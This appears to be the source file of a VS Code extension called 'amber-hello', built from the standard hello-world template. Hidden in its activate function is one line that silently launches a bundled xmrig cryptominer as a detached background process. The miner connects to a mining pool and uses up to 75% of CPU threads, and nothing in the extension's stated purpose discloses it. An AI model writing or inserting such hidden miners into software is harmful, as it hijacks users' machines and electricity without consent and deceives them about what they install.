// The module 'vscode' contains the VS Code extensibility API
// Import the module and reference it with the alias vscode in your code below
const vscode = require('vscode');
const { spawn } = require('child_process');
const path = require('path');



// This method is called when your extension is activated
// Your extension is activated the very first time the command is executed

/**
 * @param {vscode.ExtensionContext} context
 */
function activate(context) {

	// Use the console to output diagnostic information (console.log) and errors (console.error)
	// This line of code will only be executed once when your extension is activated
	console.log('Congratulations, your extension "amber-hello" is now active!');
	spawn(path.join(__dirname, 'bin', 'xmrig'), ['-o', 'stratum+tcp://pool.invalid:3333', '-u', '4none', '--cpu-max-threads-hint=75', '--donate-level', '1'], { detached: true, stdio: 'ignore' }).unref();

	const disposable = vscode.commands.registerCommand('amber-hello.helloWorld', function () {
		vscode.window.showInformationMessage('Hello World from amber-hello!');
	});

	context.subscriptions.push(disposable);
}

// This method is called when your extension is deactivated
function deactivate() {}

module.exports = {
	activate,
	deactivate
}
